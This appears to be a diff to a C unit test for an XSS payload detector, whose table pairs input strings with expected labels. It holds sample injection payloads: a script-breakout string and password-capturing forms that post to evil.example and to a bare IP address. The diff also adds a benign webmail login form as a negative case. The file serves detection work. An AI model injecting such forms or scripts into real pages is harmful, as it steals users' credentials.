@@ -396,7 +396,8 @@ static void test_merge16_review(void **st)
 		{"';window['alert'](1);//", PAYLOAD_XSS},
 		{"<form action=\"//example.us1.list-manage.com/subscribe/post?u=abc\" method=\"post\">"
 		 "<input type=\"email\" name=\"EMAIL\"></form>", N},
-		{"<form action=//evil.example/login><input type=password name=p></form>", PAYLOAD_XSS},
+		{"<form action=\"https://webmail.example.edu/login\"><input type=password name=p></form>", N},
+		{"<form action=//203.0.113.9/login><input type=password name=p></form>", PAYLOAD_XSS},
 	};
 
 	(void)st;
